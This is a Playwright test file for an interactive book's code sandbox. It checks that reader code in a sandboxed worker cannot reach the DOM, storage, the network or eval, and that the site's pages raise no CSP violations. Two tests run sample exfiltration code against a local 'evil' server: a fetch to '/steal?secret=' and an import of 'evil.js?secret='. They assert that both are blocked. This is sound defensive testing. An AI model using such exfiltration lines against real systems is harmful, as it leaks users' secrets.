// The sandbox in Chromium: reader code runs only in the runner worker, inside a sandboxed frame of opaque origin; it has
// no DOM, storage, cookies, network or other workers, and the frame's Content-Security-Policy stops code loaded from
// elsewhere. The site's
// policies cause no violation while a reader reads, edits, runs, plots, searches and uses the lens.
import { test, expect, type ConsoleMessage, type Locator, type Page } from "@playwright/test";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { chapterPaths, pagePaths } from "./site-pages";
import { encodeCode } from "../../src/runner/share";

const chapter = chapterPaths.find((p) => p.includes("saturation-and-gradient-flow")) ?? chapterPaths[0];

/** CSP violations the page reports, and the console's "Refused to …" lines (workers report theirs there). */
async function trackViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction("reportViolation", (text: string) => violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) =>
      (window as unknown as { reportViolation(t: string): void }).reportViolation(`${e.effectiveDirective} blocked ${e.blockedURI}`),
    );
  });
  const fromConsole = (message: ConsoleMessage) => {
    if (/Content.Security.Policy|Refused to/i.test(message.text())) violations.push(`console: ${message.text()}`);
  };
  page.on("console", fromConsole);
  page.on("worker", (worker) => worker.on("console", fromConsole));
  return violations;
}

const quietBlocks = (page: Page) => page.locator("[data-live-block]:not([data-autorun])");

async function runShared(page: Page, code: string): Promise<Locator> {
  const id = await quietBlocks(page).first().getAttribute("id");
  await page.goto(`${chapter}?shared#share=${id}.${encodeCode(code)}`);
  const block = page.locator(`#${id}`);
  await expect(block.locator("[data-status]")).toHaveText("Loaded from a shared link");
  await block.getByRole("button", { name: /^Run/ }).click();
  await expect(block).not.toHaveAttribute("data-state", /^(queued|running)$/, { timeout: 30_000 });
  return block;
}

test.describe("reader code runs sandboxed in the worker", () => {
  test.describe.configure({ timeout: 60_000 });
  let evil: Server;
  let evilOrigin: string;
  const evilRequests: string[] = [];

  test.beforeAll(async () => {
    evil = createServer((request, response) => {
      evilRequests.push(request.url ?? "");
      response.writeHead(200, { "content-type": "text/javascript", "access-control-allow-origin": "*" }).end("export default 1;");
    });
    await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
    evilOrigin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
  });
  test.afterAll(() => new Promise<void>((resolve) => evil.close(() => resolve())));

  test("the page's DOM, storage and cookies do not exist for it, and the message says why", async ({ page }) => {
    await page.goto(chapter);
    const names = ["document", "window", "localStorage", "sessionStorage", "fetch", "XMLHttpRequest", "WebSocket", "EventSource", "Worker", "SharedWorker", "BroadcastChannel", "importScripts", "indexedDB", "caches", "postMessage", "close"];
    const code = [
      `const names = ${JSON.stringify(names)};`,
      "const chain: object[] = [];",
      "for (let o: object | null = globalThis; o; o = Object.getPrototypeOf(o)) chain.push(o);",
      "const reachable = names.filter((n) => chain.some((o) => Object.prototype.hasOwnProperty.call(o, n)));",
      'console.log("reachable:", reachable.length ? reachable.join(", ") : "none");',
      'console.log("storage:", typeof (navigator as any).storage, "constructor.prototype.fetch:", typeof (self.constructor.prototype as any).fetch);',
      "console.log(document.cookie);",
    ].join("\n");
    const block = await runShared(page, code);
    await expect(block).toHaveAttribute("data-state", "error");
    const output = block.locator("[data-output]");
    await expect(output).toContainText("reachable: none");
    await expect(output).toContainText("storage: undefined constructor.prototype.fetch: undefined");
    await expect(output.getByRole("alert")).toHaveText(/ReferenceError: document is not defined\. Live blocks run in a Web Worker, apart from the page[\s\S]*line 7/);
  });

  test("fetch to another origin fails with a readable message and sends nothing", async ({ page }) => {
    await page.goto(chapter);
    const block = await runShared(page, `const secret = "42";\nawait fetch("${evilOrigin}/steal?secret=" + secret);`);
    await expect(block).toHaveAttribute("data-state", "error");
    await expect(block.locator("[data-output]").getByRole("alert")).toHaveText(/fetch is not defined\. Live blocks are sandboxed: no network[\s\S]*line 2/);
    expect(evilRequests).toEqual([]);
  });

  test("code from another origin cannot be imported: the worker's own policy blocks it", async ({ page }) => {
    await page.goto(chapter);
    const code = [
      'self.addEventListener("securitypolicyviolation", (e: any) => console.log("violation:", e.effectiveDirective));',
      'const secret = "42";',
      "try {",
      `  await import("${evilOrigin}/evil.js?secret=" + secret);`,
      "} finally {",
      "  await new Promise((resolve) => setTimeout(resolve, 100)); // the violation event is a task of its own",
      "}",
    ].join("\n");
    const block = await runShared(page, code);
    await expect(block).toHaveAttribute("data-state", "error");
    const output = block.locator("[data-output]");
    await expect(output.getByRole("alert")).toHaveText(/dynamically imported module[\s\S]*cannot load code or data from the network/);
    await expect(output).toContainText("violation: script-src");
    expect(evilRequests).toEqual([]);
  });

  test("what the worker must do still works under its policy: blocks as blob: scripts, the WebAssembly kernels; eval is refused", async ({ page }) => {
    await page.goto(chapter);
    const code = 'import { torch } from "gradflow";\ntorch.set_backend("wasm");\nconsole.log("backend", torch.get_backend(), torch.ones(4).sum().item());\n(0, eval)("6 * 7");';
    const block = await runShared(page, code);
    await expect(block).toHaveAttribute("data-state", "error");
    await expect(block.locator("[data-output]")).toContainText("backend wasm 4");
    await expect(block.locator("[data-output]").getByRole("alert")).toHaveText(/^EvalError: [\s\S]*cannot turn strings into code[\s\S]*line 4/);
  });

  test("the runner's own top-level names are out of reach: no one- or two-letter global a minifier could have made", async ({ page }) => {
    // The runner's bundle runs as a classic script, whose top-level names would be globals if it were not wrapped.
    const first = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ_$";
    const names = [...first, ...[...first].flatMap((a) => [...`${first}0123456789`].map((b) => a + b))].filter((n) => !["do", "if", "in"].includes(n));
    await page.goto(chapter);
    const code = `const kinds = { ${names.map((n) => `${n}: typeof ${n}`).join(", ")} };\nconsole.log("reachable:", Object.keys(kinds).filter((k) => kinds[k] !== "undefined").join(" ") || "none");`;
    const block = await runShared(page, code);
    await expect(block).toHaveAttribute("data-state", "ok");
    await expect(block.locator("[data-output]")).toContainText("reachable: none");
  });

  test("the runner lives in a sandboxed frame of opaque origin with no network; the page's policy has no inline scripts or eval", async ({ page }) => {
    await page.goto(chapter);
    await page.locator("[data-live-block] [data-run]").first().hover(); // the runner starts when the page is idle, or now
    const frame = page.locator('iframe[title="Code runner"]');
    await expect(frame).toHaveAttribute("sandbox", "allow-scripts"); // no allow-same-origin: an opaque origin
    const framePolicy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec((await frame.getAttribute("srcdoc")) ?? "")?.[1];
    expect(framePolicy).toContain("connect-src 'none'");
    expect(framePolicy).toContain("default-src 'none'");
    const pagePolicy = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content")) ?? "";
    const scriptSources = /script-src ([^;]*)/.exec(pagePolicy)?.[1].split(" ");
    expect(scriptSources).toEqual(["'self'", "'wasm-unsafe-eval'", expect.stringMatching(/^'sha256-[\w+/]+=*'$/), "blob:"]);
    expect(pagePolicy).toContain("connect-src 'self'");
    expect(pagePolicy).toContain("worker-src 'self' blob:");
  });
});

test.describe("no CSP violation while reading and using the book", () => {
  test.describe.configure({ timeout: 120_000 });

  test("every page, scrolled to the end so its autorun blocks run", async ({ page }) => {
    const violations = await trackViolations(page);
    for (const path of pagePaths) {
      await page.goto(path);
      await page.keyboard.press("End");
      await page.mouse.wheel(0, 100_000);
      const blocks = page.locator("[data-live-block][data-autorun]");
      for (let i = 0; i < (await blocks.count()); i++) {
        await blocks.nth(i).scrollIntoViewIfNeeded();
        await expect(blocks.nth(i)).toHaveAttribute("data-state", "ok", { timeout: 60_000 });
      }
    }
    expect(violations).toEqual([]);
  });

  test("editing in Monaco, running a plot, the lens graph and search", async ({ page }) => {
    const violations = await trackViolations(page);
    await page.goto(chapter);
    const block = quietBlocks(page).first();
    await block.locator("[data-code]").click();
    await expect(block.locator(".monaco-editor.focused")).toBeVisible({ timeout: 30_000 });
    await page.keyboard.press("ControlOrMeta+A");
    await page.keyboard.insertText('import { torch, plot } from "gradflow";\nconst x = torch.linspace(-3, 3, 40);\nplot.line({ tanh: torch.tanh(x) }, { x });');
    await block.getByRole("button", { name: /^Run/ }).click();
    await expect(block).toHaveAttribute("data-state", "ok", { timeout: 30_000 });
    await expect(block.locator("figure.live-block__plot svg[aria-label]")).toBeVisible();

    const lens = page.locator("[data-live-block]").filter({ has: page.locator(".live-block__title", { hasText: "The backward graph of a small network" }) });
    if (await lens.count()) {
      await lens.getByRole("button", { name: /^Run/ }).click();
      await expect(lens.locator("svg.graph-svg")).toBeVisible({ timeout: 30_000 });
    }

    await page.locator("body").press("/");
    const dialog = page.getByRole("dialog", { name: "Search the book" });
    await dialog.getByRole("textbox").fill("gradient");
    await expect(dialog.locator("a[href^='/chapters/']").first()).toBeVisible({ timeout: 20_000 });
    expect(violations).toEqual([]);
  });
});
